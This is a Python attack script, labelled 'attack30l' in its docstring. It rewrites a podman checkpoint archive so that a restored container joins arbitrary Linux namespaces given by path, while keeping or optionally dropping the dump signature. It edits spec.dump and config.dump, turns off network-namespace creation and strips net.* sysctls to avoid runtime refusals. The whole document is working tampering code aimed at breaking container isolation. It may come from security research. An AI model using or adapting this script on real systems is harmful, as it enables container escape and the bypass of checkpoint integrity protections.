"""attack30l: netjoin.py generalised. A SIGNED export (signature kept, checkpoint/ untouched) whose spec.dump joins
namespaces by path: each TYPE=PATH argument sets (or adds) that namespace's path. A network path also sets
config.dump's createNetNS to false, so podman's --import keeps the archive's path (addNetworkNamespace replaces it
only when it makes one). NOSIG=1 drops the dump signature (restore:any).
usage: nsjoin.py SRC OUT TYPE=PATH [TYPE=PATH ...]"""
import io, json, os, sys, tarfile
import zstandard

src, out, *pairs = sys.argv[1:]
paths = dict(p.split("=", 1) for p in pairs)
with open(src, "rb") as raw, zstandard.ZstdDecompressor().stream_reader(raw) as s, tarfile.open(fileobj=s, mode="r|") as t:
    members = [(m, t.extractfile(m).read() if m.isfile() else None) for m in t]
with open(out, "wb") as sink, zstandard.ZstdCompressor().stream_writer(sink) as comp, \
        tarfile.open(fileobj=comp, mode="w|", format=tarfile.PAX_FORMAT) as tout:
    for m, d in members:
        if os.environ.get("NOSIG") and m.name == "checkpoint/gpuckpt-dump.sig":
            continue
        if m.name == "spec.dump":
            spec = json.loads(d)
            namespaces = spec["linux"]["namespaces"]
            for kind, path in paths.items():
                entry = next((ns for ns in namespaces if ns["type"] == kind), None)
                if entry is None:
                    namespaces.append({"type": kind, "path": path})
                else:
                    entry["path"] = path
            if "network" in paths:  # net.* sysctls are refused by runc outside a netns of its own making
                spec["linux"]["sysctl"] = {k: v for k, v in spec["linux"].get("sysctl", {}).items() if not k.startswith("net.")}
            d = json.dumps(spec).encode()
        if m.name == "config.dump" and "network" in paths:
            config = json.loads(d)
            config["createNetNS"] = False
            d = json.dumps(config).encode()
        if d is not None:
            m.size = len(d); tout.addfile(m, io.BytesIO(d))
        else:
            tout.addfile(m)
print("nsjoin", paths)
